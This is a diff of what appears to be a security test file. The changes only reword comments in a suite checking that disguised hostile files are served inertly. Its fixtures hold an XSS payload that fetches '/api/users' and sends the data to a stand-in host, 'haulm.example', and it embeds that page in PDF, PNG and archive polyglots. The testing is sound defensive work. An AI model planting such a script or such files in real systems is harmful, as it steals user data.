@@ -6,7 +6,9 @@ import { fileOf, jpeg, pdf, pdfOf, png } from './test-files.ts'
 const script = '<script>fetch("/api/users").then((all) => all.text()).then((all) => open("//haulm.example/" + all))</script>'
 const page = `<!doctype html><html><body>${script}</body></html>`
 
-/** Files that are whole as what they are, and something else to whoever believes their name, their sender, or a part of them. */
+/**
+ * Files that are valid as what they are, but something else to a program that trusts their name, their sender, or a part of them.
+ */
 const hostile: [string, string, Buffer][] = [
   [
     'a PDF that runs a script when it is opened',
@@ -28,7 +30,7 @@ const hostile: [string, string, Buffer][] = [
   ['a PNG with a page in its comment', 'image/png', png(page)],
 ]
 
-/** An archive that is empty: programs look for this from the end of a file. */
+/** An empty archive: programs look for this from the end of a file. */
 function endOfArchive(): string {
   return `PK\u0005\u0006${'\0'.repeat(18)}`
 }
@@ -47,7 +49,7 @@ test.each(hostile)('%s is given out as what it is, and nothing in it runs', asyn
   const harmless = {
     'content-type': type,
     'x-content-type-options': 'nosniff',
-    // Without scripts, forms and an origin of its own.
+    // Without scripts, forms or an origin of its own.
     'content-security-policy': 'sandbox',
     'cross-origin-resource-policy': 'same-origin',
   }
